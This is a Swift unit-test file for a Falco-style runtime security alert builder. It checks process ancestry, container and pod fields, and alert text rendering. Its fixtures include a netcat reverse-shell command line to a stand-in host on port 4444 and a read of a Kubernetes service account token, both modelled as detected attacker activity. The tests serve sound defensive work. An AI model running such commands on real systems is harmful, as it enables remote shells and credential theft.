// SPDX-License-Identifier: Apache-2.0
// AlertBuilder: Falco field names, null for unknown, `host` for host processes, 12-hex container ids,
// ancestry, and `%field` rendering.

import XCTest
@testable import RuntimeWatchCore

final class AlertBuilderTests: XCTestCase {
    let template = "Token read by %proc.name (pid=%proc.pid container=%container.id pod=%k8s.pod.name)."

    /// The ancestry fields for chains of every depth around the levels emitted (0-7 ancestors, and
    /// deeper than `ancestryLimit`), against the obvious version: an array of records, then fields.
    func testAncestryFieldsForChainsOfEveryDepth() {
        for depth in [0, 1, 2, 4, 5, 6, 7, 16, 17, 25] {
            var state = SystemState()
            // pid 2000 + depth is the alerting process; 2000 its farthest ancestor.
            for i in 0...depth {
                let pid = Int32(2000 + i)
                state.apply(Fixture.record(Double(i) * 0.01, .exec(ProcessInfo(
                    pid: ProcessID(pid), ppid: i == 0 ? nil : ProcessID(pid - 1), comm: "p\(i)", exe: "/bin/p\(i)", argv: ["p\(i)", "-x"]))))
            }
            let pid = ProcessID(Int32(2000 + depth))
            let f = AlertBuilder.standardFields(record: Fixture.tokenOpen(1, pid: pid.rawValue), pid: pid, state: state)

            var chain: [ProcessRecord] = []
            if let ppid = state.process(pid)?.ppid, let parent = state.process(ppid) {
                chain = [parent] + state.ancestry(of: ppid, limit: AlertBuilder.ancestryLimit - 1)
            }
            XCTAssertEqual(chain.count, min(depth, AlertBuilder.ancestryLimit), "depth \(depth)")
            XCTAssertEqual(f["proc.pname"], FieldValue(chain.first.flatMap { AlertBuilder.name(of: $0.info) }), "depth \(depth)")
            XCTAssertEqual(f["proc.pcmdline"], FieldValue(chain.first.flatMap { AlertBuilder.cmdline(of: $0.info) }), "depth \(depth)")
            for level in 2...AlertBuilder.maxAncestorLevel {
                let ancestor = chain.count >= level ? chain[level - 1] : nil
                XCTAssertEqual(f["proc.aname[\(level)]"], FieldValue(ancestor.flatMap { AlertBuilder.name(of: $0.info) }), "depth \(depth) level \(level)")
                XCTAssertEqual(f["proc.apid[\(level)]"], FieldValue(ancestor?.pid.rawValue), "depth \(depth) level \(level)")
            }
            XCTAssertEqual(f["proc.ancestry"], .list(chain.map { "\(AlertBuilder.name(of: $0.info) ?? "?")(\($0.pid.rawValue))" }), "depth \(depth)")
            XCTAssertEqual(f.keys.filter { $0.hasPrefix("proc.aname[") || $0.hasPrefix("proc.apid[") }.count,
                           2 * (AlertBuilder.maxAncestorLevel - 1), "every level present, null or not")
            XCTAssertNotNil(f["proc.pname"])
            XCTAssertNotNil(f["proc.pcmdline"])
        }
    }

    func testContainerProcessFields() {
        let state = Fixture.state(inContainer: true)
        let record = Fixture.tokenOpen(1)
        let alert = AlertBuilder.build(rule: .serviceAccountTokenRead, output: template, record: record,
                                       pid: ProcessID(130), state: state, hostname: "node-1")
        let f = alert.fields
        XCTAssertEqual(f["evt.time"], .int(Int64(Fixture.at(1))))
        XCTAssertEqual(f["evt.type"], .string("open"))
        XCTAssertEqual(f["proc.pid"], .int(130))
        XCTAssertEqual(f["proc.ppid"], .int(100))
        XCTAssertEqual(f["proc.name"], .string("nc"))
        XCTAssertEqual(f["proc.exepath"], .string("/usr/bin/nc.openbsd"))
        XCTAssertEqual(f["proc.cmdline"], .string("nc 198.51.100.7 4444"))
        XCTAssertEqual(f["proc.args"], .string("198.51.100.7 4444"))
        XCTAssertEqual(f["proc.cwd"], .string("/tmp"))
        XCTAssertEqual(f["proc.pname"], .string("sh"))
        // Falco builds pcmdline from the parent's comm, not its argv[0].
        XCTAssertEqual(f["proc.pcmdline"], .string("sh -c nc 198.51.100.7 4444"))
        XCTAssertEqual(f["proc.aname[2]"], .string("containerd-shim"))
        XCTAssertEqual(f["proc.apid[2]"], .int(50))
        XCTAssertEqual(f["proc.aname[3]"], .string("systemd"))
        XCTAssertEqual(f["proc.apid[3]"], .int(1))
        XCTAssertEqual(f["proc.aname[4]"], .null)
        XCTAssertEqual(f["proc.apid[5]"], .null)
        XCTAssertEqual(f["proc.ancestry"], .list(["sh(100)", "containerd-shim(50)", "systemd(1)"]))
        XCTAssertEqual(f["user.uid"], .int(0), "user.uid is the effective uid")
        XCTAssertEqual(f["group.gid"], .int(1000))
        XCTAssertEqual(f["container.id"], .string("0123456789ab"))
        XCTAssertEqual(f["container.name"], .string("web"))
        XCTAssertEqual(f["container.image"], .string("registry.example.com/shop/web:1.4.2"))
        XCTAssertEqual(f["container.image.repository"], .string("registry.example.com/shop/web"))
        XCTAssertEqual(f["container.image.tag"], .string("1.4.2"))
        XCTAssertEqual(f["k8s.pod.name"], .string("web-7d4b9c-x2x9z"))
        XCTAssertEqual(f["k8s.ns.name"], .string("shop"))
        XCTAssertEqual(f["k8s.pod.uid"], .string(Fixture.podUID))
        XCTAssertEqual(f["fd.name"], .string("/var/run/secrets/kubernetes.io/serviceaccount/token"))
        XCTAssertEqual(f["fd.rip"], .null)
        XCTAssertEqual(f["fd.rport"], .null)

        XCTAssertEqual(alert.output, "Token read by nc (pid=130 container=0123456789ab pod=web-7d4b9c-x2x9z).")
        XCTAssertEqual(alert.ruleID, "service-account-token-read")
        XCTAssertEqual(alert.ruleName, "Service account token read")
        XCTAssertEqual(alert.priority, .warning)
        XCTAssertEqual(alert.source, .syscall)
        XCTAssertEqual(alert.hostname, "node-1")
        XCTAssertTrue(alert.tags.contains("T1552.007"))
        XCTAssertEqual(alert.advice, Rule.serviceAccountTokenRead.advice)
    }

    func testHostProcessFields() {
        let state = Fixture.state(inContainer: false)
        let alert = AlertBuilder.build(rule: .reverseShell, output: template, record: Fixture.connect(1), pid: ProcessID(130),
                                       state: state, hostname: "node-1", priority: .emergency)
        let f = alert.fields
        XCTAssertEqual(f["container.id"], .string("host"))
        XCTAssertEqual(f["container.name"], .string("host"))
        XCTAssertEqual(f["container.image"], .null)
        XCTAssertEqual(f["container.image.repository"], .null)
        XCTAssertEqual(f["k8s.pod.name"], .null)
        XCTAssertEqual(f["k8s.ns.name"], .null)
        XCTAssertEqual(f["k8s.pod.uid"], .null)
        XCTAssertEqual(f["proc.pname"], .string("bash"))
        XCTAssertEqual(f["proc.pcmdline"], .string("bash"), "argv of just argv[0] gives the bare name")
        XCTAssertEqual(f["evt.type"], .string("connect"))
        XCTAssertEqual(f["fd.name"], .string("10.244.1.5:40000->198.51.100.7:4444"))
        XCTAssertEqual(f["fd.rip"], .string("198.51.100.7"))
        XCTAssertEqual(f["fd.rport"], .int(4444))
        XCTAssertEqual(f["fd.l4proto"], .string("tcp"))
        XCTAssertEqual(f["fd.type"], .string("ipv4"))
        XCTAssertEqual(alert.priority, .emergency, "the per-alert priority overrides the rule's default")
        XCTAssertEqual(alert.output, "Token read by nc (pid=130 container=host pod=<NA>).")
    }

    func testUnknownProcessIsNullNotHost() {
        let alert = AlertBuilder.build(rule: .serviceAccountTokenRead, output: "%proc.name %container.id",
                                       record: Fixture.tokenOpen(1, pid: 999), pid: ProcessID(999), state: SystemState(), hostname: "n")
        XCTAssertEqual(alert.fields["proc.pid"], .int(999))
        XCTAssertEqual(alert.fields["proc.name"], .null)
        XCTAssertEqual(alert.fields["container.id"], .null, "an unknown process is not claimed to be a host process")
        XCTAssertEqual(alert.fields["proc.ancestry"], .list([]))
        XCTAssertEqual(alert.output, "<NA> <NA>")
    }

    func testProcessCarriedByTheEventIsUsedWhenStateLacksIt() {
        let info = ProcessInfo(pid: ProcessID(77), ppid: ProcessID(1), comm: "cat", exe: "/bin/busybox",
                               argv: ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"], cgroup: Fixture.cgroup)
        let record = Fixture.record(1, .fileOpen(FileOpenEvent(pid: ProcessID(77), path: "/t", process: info)))
        // The state deliberately has not applied the record.
        let alert = AlertBuilder.build(rule: .serviceAccountTokenRead, output: "", record: record, pid: ProcessID(77),
                                       state: SystemState(), hostname: "n")
        XCTAssertEqual(alert.fields["proc.name"], .string("cat"))
        XCTAssertEqual(alert.fields["proc.exepath"], .string("/bin/busybox"))
        XCTAssertEqual(alert.fields["container.id"], .string("0123456789ab"))
        XCTAssertEqual(alert.fields["container.name"], .null, "metadata not known yet")
    }

    func testExtraFieldsOverrideAndRender() {
        let state = Fixture.state(inContainer: true)
        let alert = AlertBuilder.build(rule: .reverseShell, output: "shell %proc.name to %fd.rip:%fd.rport via %shell.fd%% done",
                                       record: Fixture.connect(1), pid: ProcessID(130), state: state, hostname: "n",
                                       extra: ["shell.fd": .string("0,1,2"), "fd.rport": .int(1)])
        XCTAssertEqual(alert.output, "shell nc to 198.51.100.7:1 via 0,1,2% done")
    }

    func testRenderEdgeCases() {
        let fields: AlertFields = ["a.b": .string("x"), "proc.aname[2]": .string("y"), "n": .int(3)]
        XCTAssertEqual(AlertBuilder.render("%a.b.", fields: fields), "x.", "trailing dot is punctuation")
        XCTAssertEqual(AlertBuilder.render("%proc.aname[2]/%n", fields: fields), "y/3")
        XCTAssertEqual(AlertBuilder.render("100% sure", fields: fields), "100% sure", "lone percent stays")
        XCTAssertEqual(AlertBuilder.render("%missing", fields: fields), "<NA>")
        XCTAssertEqual(AlertBuilder.render("end %", fields: fields), "end %")
        XCTAssertEqual(AlertBuilder.render("ünï %a.b ✓", fields: fields), "ünï x ✓")
    }

    func testIPv6ConnectTuple() {
        let state = Fixture.state(inContainer: true)
        let record = Fixture.record(1, .connect(ConnectEvent(pid: ProcessID(130), proto: "tcp", localAddress: "fd00::5", localPort: 5555,
                                                             remoteAddress: "2001:db8::1", remotePort: 443)))
        let alert = AlertBuilder.build(rule: .unexpectedOutboundConnection, output: "", record: record, pid: ProcessID(130),
                                       state: state, hostname: "n")
        XCTAssertEqual(alert.fields["fd.name"], .string("[fd00::5]:5555->[2001:db8::1]:443"))
        XCTAssertEqual(alert.fields["fd.type"], .string("ipv6"))
    }

    /// The sentence is rendered late (when it leaves the engine) but reads as if rendered at build:
    /// from the fields as they were then, whatever is set on the alert afterwards; an alert holding
    /// its template equals, and hashes as, one holding the rendered text.
    func testOutputRenderedLateReadsAsRenderedAtBuild() {
        let state = Fixture.state(inContainer: true)
        var alert = AlertBuilder.build(rule: .reverseShell, output: "shell %proc.name caps=%thread.cap_effective id=%rw.incident.id",
                                       record: Fixture.connect(1), pid: ProcessID(130), state: state, hostname: "n")
        let atBuild = AlertBuilder.render("shell %proc.name caps=%thread.cap_effective id=%rw.incident.id", fields: alert.fields)
        XCTAssertEqual(atBuild, "shell nc caps=<NA> id=<NA>")
        alert.fields["proc.name"] = .string("other")
        alert.fields["thread.cap_effective"] = .string("CAP_NET_RAW")
        alert.fields["rw.incident.id"] = .string("inc-1")
        XCTAssertEqual(alert.output, atBuild, "fields set after the build do not reach the sentence")

        var text = alert
        text.output = atBuild
        XCTAssertEqual(alert, text)
        XCTAssertEqual(alert.hashValue, text.hashValue)
        var rendered = alert
        rendered.renderOutput()
        XCTAssertEqual(rendered.output, atBuild)
        XCTAssertEqual(rendered, alert)
        XCTAssertEqual(rendered.jsonLine(), alert.jsonLine())
        text.output = "changed"
        XCTAssertNotEqual(alert, text, "the text is compared")
    }

    /// `AlertGate` gives a sentence that renders empty the rule's name, as it does an empty text.
    func testGateNamesAnEmptySentenceWhetherRenderedOrNot() throws {
        let state = Fixture.state(inContainer: true)
        let lazy = AlertBuilder.build(rule: .reverseShell, output: "%rw.empty", record: Fixture.connect(1), pid: ProcessID(130),
                                      state: state, hostname: "n", extra: ["rw.empty": .string("")])
        XCTAssertEqual(lazy.output, "")
        var text = lazy
        text.output = ""
        for alert in [lazy, text] {
            let admitted = try AlertGate.admit(alert, catalog: .builtin, hostname: "n").get()
            XCTAssertEqual(admitted.output, Rule.reverseShell.name)
            var rendered = admitted
            rendered.renderOutput()
            XCTAssertEqual(rendered.output, Rule.reverseShell.name)
        }
        let named = try AlertGate.admit(AlertBuilder.build(rule: .reverseShell, output: "%proc.name", record: Fixture.connect(1),
                                                           pid: ProcessID(130), state: state, hostname: "n"),
                                        catalog: .builtin, hostname: "n").get()
        XCTAssertEqual(named.output, "nc", "a sentence that renders is kept")
    }

    /// The cmdline and args builder against `joined`: empty parts, one part, unicode, long parts.
    func testSpacedMatchesJoined() {
        let cases: [[String]] = [[], [""], ["", ""], ["a"], ["a", "b c"], ["é🐚", "", "x"], [String(repeating: "y", count: 300), "z"]]
        for rest in cases {
            XCTAssertEqual(AlertBuilder.spaced(nil, rest[...]), rest.joined(separator: " "), "\(rest)")
            XCTAssertEqual(AlertBuilder.spaced("sh", rest[...]), (["sh"] + rest).joined(separator: " "), "\(rest)")
        }
    }
}

